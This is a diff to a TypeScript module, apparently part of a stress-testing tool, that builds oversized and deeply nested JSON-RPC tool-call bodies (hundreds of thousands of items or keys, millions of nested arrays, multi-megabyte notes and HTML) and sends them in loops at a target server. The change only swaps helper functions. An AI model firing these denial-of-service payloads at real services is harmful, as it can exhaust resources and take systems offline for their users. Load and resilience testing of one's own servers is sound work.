@@ -3,7 +3,7 @@ import { randomUUID } from 'node:crypto';
 import type { ClientRequest } from 'node:http';
 import { brotliCompressSync, constants, gzipSync } from 'node:zlib';
 import { type Attack, loops } from './attack.ts';
-import { agents, faces, saveItem, send, toolCall } from './requests.ts';
+import { callTool, faces, saveItem, send } from './requests.ts';
 
 const MIB = 1024 * 1024;
 let compressed: (readonly ['gzip' | 'br', Buffer])[] = [];
@@ -102,14 +102,18 @@ export const byBodies: Record<string, Attack> = {
     run: (target, signal, tally) => {
       const item = '{"type":"task","title":""}';
       const shapes = [
-        `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"svc_create_items","arguments":{"requestId":"${randomUUID()}","workspaceId":1,"items":[${`${item},`.repeat(300_000)}${item}]}}}`,
-        `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"svc_context","arguments":{${Array.from({ length: 600_000 }, (_, n) => `"k${n}":0`).join()}}}}`,
-        `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"svc_context","arguments":{"x":[${'[],'.repeat(2_700_000)}[]]}}}`,
-        toolCall('svc_add_note', { requestId: randomUUID(), id: 1, body: 'a'.repeat(8_000_000) }),
+        callTool(
+          target,
+          'svc_create_items',
+          `{"requestId":"${randomUUID()}","workspaceId":1,"items":[${`${item},`.repeat(300_000)}${item}]}`,
+        ),
+        callTool(target, 'svc_context', `{${Array.from({ length: 600_000 }, (_, n) => `"k${n}":0`).join()}}`),
+        callTool(target, 'svc_context', `{"x":[${'[],'.repeat(2_700_000)}[]]}`),
+        callTool(target, 'svc_add_note', { requestId: randomUUID(), id: 1, body: 'a'.repeat(8_000_000) }),
       ];
       return loops(2, signal, async (n) => {
-        await send(target, { ...agents(target), body: shapes[n]! }, tally);
-        await send(target, { ...agents(target), body: shapes[n + 2]! }, tally);
+        await send(target, shapes[n]!, tally);
+        await send(target, shapes[n + 2]!, tally);
       });
     },
   },
@@ -119,7 +123,7 @@ export const byBodies: Record<string, Attack> = {
       let turn = 0;
       return loops(4, signal, () => {
         const html = nested[turn++ % nested.length]!.slice(0, 131_000);
-        return send(target, { ...agents(target), body: toolCall('svc_personal_notes_create', { requestId: randomUUID(), html }) }, tally);
+        return send(target, callTool(target, 'svc_personal_notes_create', { requestId: randomUUID(), html }), tally);
       });
     },
   },
